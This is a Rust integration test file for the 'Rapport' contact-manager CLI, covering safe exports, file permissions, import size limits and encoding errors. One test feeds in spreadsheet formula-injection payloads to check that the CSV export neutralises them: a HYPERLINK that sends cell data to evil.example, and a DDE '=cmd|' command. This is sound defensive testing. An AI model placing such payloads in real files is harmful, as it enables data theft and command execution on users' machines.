//! Files Rapport writes never hurt the user, and every file it reads is bounded before it is
//! copied: through the CLI, on real files.

use std::io::Write as _;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use serde_json::Value;
use tempfile::TempDir;

const AT: &str = "2026-12-02T10:00:00Z";

fn rapport(db: &Path) -> Command {
    let mut cmd = Command::cargo_bin("rapport").unwrap();
    cmd.env("RAPPORT_DB", db).env("RAPPORT_AT", AT).env("TZ", "UTC");
    cmd
}

fn ok(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

fn refused(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap();
    assert!(!out.status.success(), "expected a refusal: {}", String::from_utf8_lossy(&out.stdout));
    String::from_utf8(out.stderr).unwrap()
}

fn demo() -> (TempDir, PathBuf) {
    let dir = TempDir::new().unwrap();
    let db = dir.path().join("rapport.db");
    ok(rapport(&db).arg("demo"));
    (dir, db)
}

#[test]
fn an_export_onto_the_database_its_companions_or_its_backups_is_refused_and_harms_nothing() {
    let (dir, db) = demo();
    ok(rapport(&db).arg("backup"));
    let copy = std::fs::read_dir(dir.path().join("backups")).unwrap().next().unwrap().unwrap().path();
    let before = std::fs::read(&copy).unwrap();
    let spelled_otherwise = dir.path().join("backups/../rapport.db");
    for target in [
        db.clone(),
        spelled_otherwise,
        PathBuf::from(format!("{}-wal", db.display())),
        PathBuf::from(format!("{}-shm", db.display())),
        copy.clone(),
        dir.path().join("backups/archive.json"),
    ] {
        for format in ["archive", "csv", "ics"] {
            let err = refused(rapport(&db).args(["export", "--format", format, "--out"]).arg(&target));
            assert!(err.contains("Choose another file name or folder"), "{target:?}: {err}");
        }
        let err = refused(rapport(&db).args(["brief", "kestrel", "--out"]).arg(&target));
        assert!(err.contains("Choose another file name or folder"), "{target:?}: {err}");
    }
    let accounts: Value =
        serde_json::from_str(&ok(rapport(&db).args(["account", "list", "--json"]))).unwrap();
    assert_eq!(accounts.as_array().unwrap().len(), 15, "the database still opens, whole");
    assert_eq!(std::fs::read(&copy).unwrap(), before, "the backup is untouched");
}

#[cfg(unix)]
#[test]
fn every_export_is_readable_by_its_owner_only_and_leaves_no_temporary_file() {
    use std::os::unix::fs::PermissionsExt;
    let (_dir, db) = demo();
    let out = TempDir::new().unwrap();
    let mut written = Vec::new();
    for (format, name) in
        [("archive", "all.json"), ("csv", "people.csv"), ("vcard", "people.vcf"), ("ics", "rapport.ics")]
    {
        let target = out.path().join(name);
        // An older export readable by everyone is replaced by a private one.
        std::fs::write(&target, "old").unwrap();
        std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
        ok(rapport(&db).args(["export", "--format", format, "--out"]).arg(&target));
        written.push(target);
    }
    let brief = out.path().join("brief.md");
    ok(rapport(&db).args(["brief", "kestrel", "--out"]).arg(&brief));
    written.push(brief);
    for file in &written {
        let mode = std::fs::metadata(file).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{file:?} is {mode:o}");
        assert_ne!(std::fs::read_to_string(file).unwrap(), "old");
    }
    let names: Vec<String> = std::fs::read_dir(out.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(names.len(), written.len(), "no temporary file is left: {names:?}");
}

#[test]
fn a_csv_export_shows_formulas_as_text_and_its_import_gives_the_names_back() {
    let dir = TempDir::new().unwrap();
    let db = dir.path().join("rapport.db");
    ok(rapport(&db).args(["account", "add", "Formula Works"]));
    let hostile = [
        ("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")", "+1 reports to nobody"),
        ("@SUM(A1:A9)", "-2 levels down"),
        ("Plain Name", "=cmd|' /C calc'!A0"),
    ];
    for (name, title) in hostile {
        ok(rapport(&db)
            .args(["contact", "add", "Formula Works", name, "--phone", "+49 30 1234"])
            .arg(format!("--title={title}")));
    }
    let csv = ok(rapport(&db).args(["export", "--format", "csv"]));
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?} in {line}"
            );
        }
    }
    // The same file, read back into a fresh database, gives every name and title as typed.
    let file = dir.path().join("people.csv");
    std::fs::write(&file, &csv).unwrap();
    let fresh = dir.path().join("fresh.db");
    ok(rapport(&fresh).args(["account", "add", "Formula Works"]));
    ok(rapport(&fresh).args(["import", "--account", "Formula Works"]).arg(&file));
    let people: Value =
        serde_json::from_str(&ok(rapport(&fresh).args(["contact", "list", "Formula Works", "--json"])))
            .unwrap();
    for (name, title) in hostile {
        let person = people.as_array().unwrap().iter().find(|p| p["name"] == name);
        let person = person.unwrap_or_else(|| panic!("{name} came back otherwise: {people}"));
        assert_eq!(person["title"], title);
        assert_eq!(person["phone"], "+49 30 1234");
    }
}

#[test]
fn nul_characters_in_an_archive_reach_no_export() {
    let (dir, db) = demo();
    let mut archive: Value = serde_json::from_str(&ok(rapport(&db).arg("export"))).unwrap();
    archive["accounts"][0]["name"] = Value::from("Kestrel\u{0}Logistik");
    archive["accounts"][0]["notes"] = Value::from("a\u{0}b");
    let file = dir.path().join("nul.json");
    std::fs::write(&file, archive.to_string()).unwrap();
    ok(rapport(&db).arg("import").arg(&file));
    for format in ["archive", "csv", "vcard", "ics"] {
        let text = ok(rapport(&db).args(["export", "--format", format]));
        assert!(!text.contains('\0') && !text.contains("\\u0000"), "{format} carries a NUL");
    }
    assert!(ok(rapport(&db).args(["account", "list"])).contains("KestrelLogistik"));
}

#[test]
fn reading_a_device_that_never_ends_stops_at_the_limit_with_a_sentence() {
    let (_dir, db) = demo();
    let err = refused(rapport(&db).args(["import", "/dev/zero"]));
    assert!(err.contains("more than 256 MB"), "{err}");
    let err = refused(rapport(&db).args(["import", "--dry-run", "/dev/zero"]));
    assert!(err.contains("more than 256 MB"), "{err}");
}

#[test]
fn an_oversized_id_is_refused_with_its_path_before_it_is_copied() {
    let (dir, db) = demo();
    let mut archive: Value = serde_json::from_str(&ok(rapport(&db).arg("export"))).unwrap();
    // 20 MB, which older versions copied into each of the account's records before checking.
    archive["accounts"][0]["id"] = Value::from("x".repeat(20_000_000));
    let file = dir.path().join("huge-id.json");
    std::fs::write(&file, archive.to_string()).unwrap();
    let err = refused(rapport(&db).args(["import", "--dry-run"]).arg(&file));
    assert!(err.contains("$.accounts[0].id"), "{}", &err[..err.len().min(400)]);
    assert!(err.contains("20000000 characters long; the limit is"), "{}", &err[..err.len().min(400)]);
    assert!(err.len() < 2_000, "the message does not repeat the id");
}

#[test]
fn an_archive_larger_than_any_address_book_is_still_imported() {
    let (dir, db) = demo();
    let text = ok(rapport(&db).arg("export"));
    // Rapport's own archive, grown past the 256 MB an address book may have (here by spaces,
    // which JSON allows anywhere between values).
    let file = dir.path().join("big.json");
    let mut out = std::fs::File::create(&file).unwrap();
    let (head, tail) = text.split_at(1);
    out.write_all(head.as_bytes()).unwrap();
    let padding = vec![b' '; 1024 * 1024];
    for _ in 0..258 {
        out.write_all(&padding).unwrap();
    }
    out.write_all(tail.as_bytes()).unwrap();
    drop(out);
    let report = ok(rapport(&db).args(["import", "--dry-run", "--json"]).arg(&file));
    let report: Value = serde_json::from_str(&report).unwrap();
    assert_eq!(report["accounts"], 15, "{report}");
}

#[test]
fn archives_in_utf16_or_not_in_utf8_are_named_for_what_they_are() {
    let (dir, db) = demo();
    let text = ok(rapport(&db).arg("export"));
    let utf16 = dir.path().join("utf16.json");
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    std::fs::write(&utf16, bytes).unwrap();
    let err = refused(rapport(&db).arg("import").arg(&utf16));
    assert!(err.contains("UTF-16"), "{err}");
    let latin1 = dir.path().join("latin1.json");
    let mut bytes = text.into_bytes();
    bytes.splice(10..10, [0xE9]);
    std::fs::write(&latin1, bytes).unwrap();
    let err = refused(rapport(&db).arg("import").arg(&latin1));
    assert!(err.contains("is not UTF-8 text"), "{err}");
}

#[test]
fn what_is_wrong_is_said_as_it_is() {
    let (dir, db) = demo();
    let said = |cmd: &mut Command| refused(cmd);
    for args in [&["account", "list"][..], &["log", "kestrel", "x"]] {
        let err = said(Command::cargo_bin("rapport").unwrap().args(["--db", "/dev/null"]).args(args));
        assert!(err.contains("/dev/null is a device or a pipe"), "{err}");
        let err = said(Command::cargo_bin("rapport").unwrap().arg("--db").arg(dir.path()).args(args));
        assert!(err.contains("is a folder, not a database file"), "{err}");
    }
    let err = said(rapport(&db).arg("import").arg(dir.path()));
    // A folder may hold mail (issue 19); this one holds none.
    assert!(err.contains("is a folder with no mail in it. Choose the file inside it"), "{err}");

    ok(rapport(&db).arg("backup"));
    ok(rapport(&db).env("RAPPORT_NEW_PASSPHRASE", "correct horse battery").arg("encrypt"));
    let err = said(rapport(&db).env("RAPPORT_PASSPHRASE", "").args(["account", "list"]));
    assert!(err.contains("That passphrase does not open"), "an empty passphrase: {err}");
    let copy = std::fs::read_dir(dir.path().join("backups")).unwrap().next().unwrap().unwrap().path();
    let err = said(rapport(&db).env("RAPPORT_PASSPHRASE", "wrong horse battery").arg("restore").arg(&copy));
    assert!(err.contains("That passphrase does not open"), "a wrong passphrase on restore: {err}");
}
